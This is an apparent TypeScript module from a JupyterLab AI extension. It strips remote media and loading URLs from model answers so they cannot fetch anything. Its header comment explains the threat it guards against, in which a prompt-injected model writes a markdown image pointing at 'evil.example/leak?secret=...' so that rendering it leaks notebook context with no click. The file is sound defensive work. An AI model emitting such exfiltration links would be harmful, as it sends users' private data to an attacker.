/**
 * Remote media in an answer never load: a prompt-injected model could otherwise write
 * `![x](http://evil.example/leak?secret=...)` and the browser would send the notebook's context
 * away with no click. The HTML of an answer, once sanitized, is rewritten in an inert document
 * (parsed by DOMParser: nothing in it loads) before it reaches the page:
 *
 * - an image (`<img>`, `<input type=image>`), video or audio whose URL is neither `data:` nor
 *   relative (the Jupyter server's) becomes a link "alt (image from HOST — click to open)",
 *   opened in a new tab without opener or referrer;
 * - every other URL attribute that loads something (srcset, poster, background, ping, ...) and
 *   every CSS `url()` in a style attribute that is not data: or relative is removed;
 * - elements that load or run things (style, link, meta, base, iframe, object, ...) go.
 *
 * The magics apply the same rules to the Markdown they display (jupyter_tinyai/magics/safe_markdown.py).
 */
import { IRenderMimeRegistry } from '@jupyterlab/rendermime';
import { IRenderMime } from '@jupyterlab/rendermime-interfaces';
import { IDisposable } from '@lumino/disposable';

/** The class of the link shown instead of a remote image, video or audio. */
export const REMOTE_MEDIA_CLASS = 'jp-TinyAI-remote-media';
export const REMOTE_MEDIA_REL = 'noopener noreferrer';

export type UrlKind = 'data' | 'relative' | 'remote' | 'unsafe';

const LINK_PROTOCOLS = ['http:', 'https:', 'ftp:', 'mailto:', 'tel:'];
const REMOVED =
  'script, style, link, meta, base, iframe, frame, frameset, object, embed, applet, portal, noscript, template, svg, math';
const URL_ATTRIBUTES = [
  'src',
  'srcset',
  'poster',
  'background',
  'lowsrc',
  'dynsrc',
  'data',
  'ping',
  'action',
  'formaction',
  'icon',
  'manifest',
  'codebase',
  'archive',
  'longdesc',
  'imagesrcset',
  'xlink:href'
];

/**
 * What a URL of an answer points at, as the browser reads it: `data`, `relative` (resolved
 * against the page: the Jupyter server), `remote` (another machine) or `unsafe` (javascript:
 * and other schemes no link may have).
 */
export function classifyUrl(value: string): { kind: UrlKind; url: string } {
  let one: URL, two: URL;
  try {
    one = new URL(value, 'http://one.invalid/');
    two = new URL(value, 'https://two.invalid/');
  } catch {
    return { kind: 'unsafe', url: value };
  }
  if (one.protocol === 'data:') {
    return { kind: 'data', url: one.href };
  }
  if (
    one.origin === 'http://one.invalid' &&
    two.origin === 'https://two.invalid'
  ) {
    return { kind: 'relative', url: value };
  }
  if (LINK_PROTOCOLS.includes(one.protocol) && one.href === two.href) {
    return { kind: 'remote', url: one.href };
  }
  if (
    one.protocol === 'http:' &&
    two.protocol === 'https:' &&
    one.host === two.host
  ) {
    // //host/path: the page's scheme
    return {
      kind: 'remote',
      url:
        typeof document === 'undefined'
          ? one.href
          : new URL(value, document.baseURI).href
    };
  }
  return { kind: 'unsafe', url: one.href };
}

/** The text shown instead: `alt (image from HOST — click to open)`. */
export function placeholderLabel(
  what: string,
  alt: string,
  url: string
): string {
  let host = '';
  try {
    host = new URL(url).host;
  } catch {
    host = '';
  }
  const label = `${what} from ${host || 'another site'} — click to open`;
  return alt.trim() ? `${alt.trim()} (${label})` : label;
}

function mayLoad(value: string | null): boolean {
  if (value === null) {
    return true;
  }
  const kind = classifyUrl(value).kind;
  return kind === 'data' || kind === 'relative';
}

function placeholder(
  doc: Document,
  what: string,
  alt: string,
  url: string,
  inLink: boolean
): HTMLElement {
  const text = placeholderLabel(what, alt, url);
  const { kind } = classifyUrl(url);
  if (kind !== 'remote' || inLink) {
    // inside a link a click opens that link, so the media is only named there
    const span = doc.createElement('span');
    span.className = REMOTE_MEDIA_CLASS;
    if (kind === 'remote') {
      span.textContent = text.replace(' — click to open', ', not loaded');
    } else {
      span.textContent = alt.trim()
        ? `${alt.trim()} (${what} not shown)`
        : `(${what} not shown)`;
    }
    return span;
  }
  const a = doc.createElement('a');
  a.className = REMOTE_MEDIA_CLASS;
  a.href = url;
  a.target = '_blank';
  a.rel = REMOTE_MEDIA_REL;
  a.referrerPolicy = 'no-referrer';
  a.textContent = text;
  return a;
}

/** CSS values that name a URL which may not load (all of image-set: rarely used, hard to read). */
function cssLoadsRemote(value: string): boolean {
  if (/image-set\(|cross-fade\(|element\(/i.test(value)) {
    return true;
  }
  const urls = value.matchAll(
    /url\(\s*(?:"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)'|([^)]*))\s*\)/gi
  );
  for (const m of urls) {
    const url = (m[1] ?? m[2] ?? m[3] ?? '').replace(/\\(.)/g, '$1').trim();
    if (!mayLoad(url)) {
      return true;
    }
  }
  return /url\(/i.test(
    value.replace(
      /url\(\s*(?:"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'|[^)]*)\s*\)/gi,
      ''
    )
  );
}

/** The style attribute as the browser parsed it, without declarations that load remote URLs. */
function cleanStyle(el: HTMLElement): void {
  const style = el.style;
  for (let i = style.length - 1; i >= 0; i--) {
    const name = style.item(i);
    if (cssLoadsRemote(style.getPropertyValue(name))) {
      style.removeProperty(name);
    }
  }
  const css = style.cssText;
  if (css) {
    el.setAttribute('style', css);
  } else {
    el.removeAttribute('style');
  }
}

function mediaSource(el: Element): string | null {
  for (const attr of ['src', 'poster']) {
    const value = el.getAttribute(attr);
    if (value !== null && !mayLoad(value)) {
      return value;
    }
  }
  for (const child of Array.from(
    el.querySelectorAll('source[src], track[src]')
  )) {
    const value = child.getAttribute('src');
    if (!mayLoad(value)) {
      return value;
    }
  }
  return null;
}

/** Sanitized HTML with every remote load taken out (see the module's comment). */
export function withoutRemoteMedia(html: string): string {
  const doc = new DOMParser().parseFromString(
    `<!DOCTYPE html><html><body>${html}</body></html>`,
    'text/html'
  );
  for (const el of Array.from(doc.body.querySelectorAll(REMOVED))) {
    el.remove();
  }
  for (const el of Array.from(
    doc.body.querySelectorAll('img, input, video, audio')
  )) {
    const tag = el.localName;
    const inLink = !!el.parentElement?.closest('a');
    let source: string | null = null;
    if (
      tag === 'img' ||
      (tag === 'input' &&
        (el.getAttribute('type') ?? '').toLowerCase() === 'image')
    ) {
      source = mayLoad(el.getAttribute('src')) ? null : el.getAttribute('src');
    } else if (tag === 'video' || tag === 'audio') {
      source = mediaSource(el);
    }
    if (source !== null) {
      const what = tag === 'video' || tag === 'audio' ? tag : 'image';
      el.replaceWith(
        placeholder(doc, what, el.getAttribute('alt') ?? '', source, inLink)
      );
    }
  }
  for (const el of Array.from(doc.body.querySelectorAll('*'))) {
    for (const attr of URL_ATTRIBUTES) {
      const value = el.getAttribute(attr);
      if (
        value !== null &&
        (attr === 'srcset' ||
          attr === 'imagesrcset' ||
          attr === 'ping' ||
          !mayLoad(value))
      ) {
        el.removeAttribute(attr);
      }
    }
    if (
      el.localName !== 'a' &&
      el.localName !== 'area' &&
      el.hasAttribute('href') &&
      !mayLoad(el.getAttribute('href'))
    ) {
      el.removeAttribute('href');
    }
    if (el.hasAttribute('style')) {
      cleanStyle(el as HTMLElement);
    }
  }
  return doc.body.innerHTML;
}

/** A sanitizer that sanitizes with JupyterLab's, then takes out remote loads. */
export class MediaGuardSanitizer implements IRenderMime.ISanitizer {
  constructor(private _inner: IRenderMime.ISanitizer) {}

  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
    return withoutRemoteMedia(this._inner.sanitize(dirty, options));
  }

  getAutolink(): boolean {
    return this._inner.getAutolink?.() ?? true;
  }

  get allowNamedProperties(): boolean | undefined {
    return this._inner.allowNamedProperties;
  }

  get allowCommandLinker(): boolean | undefined {
    return this._inner.allowCommandLinker;
  }
}

const guarded = new WeakMap<IRenderMimeRegistry, IRenderMimeRegistry>();

/** `rendermime` with the media guard after its sanitizer (one clone per registry). */
export function guardedRendermime(
  rendermime: IRenderMimeRegistry
): IRenderMimeRegistry {
  let clone = guarded.get(rendermime);
  if (!clone) {
    clone = rendermime.clone({
      sanitizer: new MediaGuardSanitizer(rendermime.sanitizer)
    });
    guarded.set(rendermime, clone);
  }
  return clone;
}

/**
 * Keep the placeholders' rel under `node`: JupyterLab sets rel="noopener" on every outside
 * link after rendering (after typesetting, so later than the render itself).
 */
export function keepPlaceholderRel(node: HTMLElement): IDisposable {
  const fix = (): void => {
    for (const a of Array.from(
      node.querySelectorAll<HTMLAnchorElement>(`a.${REMOTE_MEDIA_CLASS}`)
    )) {
      if (a.rel !== REMOTE_MEDIA_REL) {
        a.rel = REMOTE_MEDIA_REL;
      }
    }
  };
  const observer = new MutationObserver(fix);
  observer.observe(node, {
    subtree: true,
    childList: true,
    attributes: true,
    attributeFilter: ['rel']
  });
  let disposed = false;
  return {
    get isDisposed() {
      return disposed;
    },
    dispose() {
      disposed = true;
      observer.disconnect();
    }
  };
}
